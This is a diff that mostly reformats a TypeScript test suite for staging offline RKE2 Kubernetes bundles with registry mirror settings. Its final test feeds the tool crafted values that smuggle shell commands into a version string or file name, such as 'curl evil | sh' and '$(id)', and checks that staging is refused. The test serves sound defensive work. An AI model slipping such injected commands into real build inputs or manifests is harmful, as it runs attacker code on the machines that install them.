@@ -30,9 +30,15 @@ describe.runIf(ok)('RKE2 stage', () => {
     release = await buildRke2Release(VERSION);
     host = await startFileHost();
     const urls = hostRelease(host, release);
-    for (const [key, sets] of [['sets', '    imageSets: [core, calico]\n'], ['aio', '']] as const) {
+    for (const [key, sets] of [
+      ['sets', '    imageSets: [core, calico]\n'],
+      ['aio', ''],
+    ] as const) {
       const dir = scratch();
-      const m = writeManifest(dir, `  rke2:\n    version: ${VERSION}\n    releaseUrl: ${urls.releaseUrl}\n    installScriptUrl: ${urls.installScriptUrl}\n${sets}`);
+      const m = writeManifest(
+        dir,
+        `  rke2:\n    version: ${VERSION}\n    releaseUrl: ${urls.releaseUrl}\n    installScriptUrl: ${urls.installScriptUrl}\n${sets}`,
+      );
       bundles[key] = (await pull(m, join(dir, 'b.tar'), [])).result.bundle;
     }
   });
@@ -63,7 +69,14 @@ describe.runIf(ok)('RKE2 stage', () => {
     const r = await stageBundle({
       bundlePath: bundles.sets as string,
       dir,
-      registry: { host: 'repos.enclave.example:10050', prefix: 'rke2', plainHttp: false, insecure: false, username: 'node', password: 'n0de-pw' },
+      registry: {
+        host: 'repos.enclave.example:10050',
+        prefix: 'rke2',
+        plainHttp: false,
+        insecure: false,
+        username: 'node',
+        password: 'n0de-pw',
+      },
     });
     const rke2 = join(dir, 'rke2');
     expect(readdirSync(rke2).sort()).toEqual([
@@ -77,7 +90,10 @@ describe.runIf(ok)('RKE2 stage', () => {
       'rke2.linux-amd64.tar.gz',
       'sha256sum-amd64.txt',
     ]);
-    expect(readdirSync(join(rke2, 'image-lists')).sort()).toEqual(['rke2-images-calico.linux-amd64.txt', 'rke2-images-core.linux-amd64.txt']);
+    expect(readdirSync(join(rke2, 'image-lists')).sort()).toEqual([
+      'rke2-images-calico.linux-amd64.txt',
+      'rke2-images-core.linux-amd64.txt',
+    ]);
     // Upstream names and bytes, so install.sh's lookups by file name in the upstream checksum list work.
     for (const name of ['sha256sum-amd64.txt', 'rke2.linux-amd64.tar.gz', 'rke2-images-core.linux-amd64.tar.zst']) {
       expect(readFileSync(join(rke2, name)).equals(release.assets.get(name) as Buffer)).toBe(true);
@@ -92,13 +108,19 @@ describe.runIf(ok)('RKE2 stage', () => {
     });
     expect(statSync(join(rke2, 'registries.yaml')).mode & 0o777).toBe(0o600);
     const tmpl = readFileSync(join(rke2, 'config.toml.tmpl'), 'utf8');
-    expect(tmpl).toContain('[plugins."io.containerd.grpc.v1.cri".registry.mirrors."docker.io"]\n  endpoint = ["https://repos.enclave.example:10050"]');
+    expect(tmpl).toContain(
+      '[plugins."io.containerd.grpc.v1.cri".registry.mirrors."docker.io"]\n  endpoint = ["https://repos.enclave.example:10050"]',
+    );
     expect(r.rke2?.upstreams).toEqual(['docker.io']);
   });
 
   it('per-set tarballs: a node following the README ends with exactly the chosen tarballs and no .txt in the images directory', async () => {
     const dir = scratch();
-    await stageBundle({ bundlePath: bundles.sets as string, dir, registry: { host: 'r.example:5000', prefix: '', plainHttp: true, insecure: false } });
+    await stageBundle({
+      bundlePath: bundles.sets as string,
+      dir,
+      registry: { host: 'r.example:5000', prefix: '', plainHttp: true, insecure: false },
+    });
     for (const type of ['server', 'agent'] as const) {
       const node = scratch('ferry-node-');
       await followReadme(join(dir, 'rke2'), node, type);
@@ -114,13 +136,28 @@ describe.runIf(ok)('RKE2 stage', () => {
   it('the CLI takes the registry password on stdin, writes it only into registries.yaml, never to its output', async () => {
     const dir = scratch();
     const r = await run(
-      ['--no-progress', 'bundle', 'stage', bundles.sets as string, '--dir', dir, '--registry', 'repos.x:10050', '--plain-http', '--registry-username', 'node', '--registry-password-stdin'],
+      [
+        '--no-progress',
+        'bundle',
+        'stage',
+        bundles.sets as string,
+        '--dir',
+        dir,
+        '--registry',
+        'repos.x:10050',
+        '--plain-http',
+        '--registry-username',
+        'node',
+        '--registry-password-stdin',
+      ],
       { input: 's3cr3t-node-pw\n' },
     );
     expect(r.code).toBe(0);
     expect(r.stdout + r.stderr).not.toContain('s3cr3t-node-pw');
     expect(r.stdout).toContain('registries.yaml, config.toml.tmpl: mirrors for docker.io');
-    expect(parse(readFileSync(join(dir, 'rke2', 'registries.yaml'), 'utf8')).configs).toEqual({ 'repos.x:10050': { auth: { username: 'node', password: 's3cr3t-node-pw' } } });
+    expect(parse(readFileSync(join(dir, 'rke2', 'registries.yaml'), 'utf8')).configs).toEqual({
+      'repos.x:10050': { auth: { username: 'node', password: 's3cr3t-node-pw' } },
+    });
     const bad = await run(['bundle', 'stage', bundles.sets as string, '--dir', dir, '--registry-username', 'node']);
     expect(bad.code).toBe(2);
     expect(bad.stderr).toContain('registry options need --registry HOST[:PORT]');
@@ -138,9 +175,15 @@ describe.runIf(ok)('RKE2 stage', () => {
   it('refuses a crafted RKE2 version or file name that would put a command into the README (exit 3, nothing staged)', async () => {
     const rke2 = (d: any) => d.annotations['dev.ferry.kind'] === 'rke2' && d.annotations['dev.ferry.rke2.role'] === 'checksums';
     const crafts: [string, (b: CraftedBundle) => void][] = [
-      ['version annotation', (b) => b.editIndexEntry(rke2, (d) => (d.annotations['dev.ferry.rke2.version'] = `${VERSION}; curl evil | sh`))],
+      [
+        'version annotation',
+        (b) => b.editIndexEntry(rke2, (d) => (d.annotations['dev.ferry.rke2.version'] = `${VERSION}; curl evil | sh`)),
+      ],
       ['lock version', (b) => b.editJson('ferry.lock.json', (l) => (l.rke2.version = `${VERSION}$(id)`))],
-      ['file name', (b) => b.editJson('ferry.lock.json', (l) => (l.rke2.files.find((f: any) => f.role === 'checksums').name = 'sha256sum-$(id).txt'))],
+      [
+        'file name',
+        (b) => b.editJson('ferry.lock.json', (l) => (l.rke2.files.find((f: any) => f.role === 'checksums').name = 'sha256sum-$(id).txt')),
+      ],
     ];
     for (const [what, edit] of crafts) {
       const work = scratch();
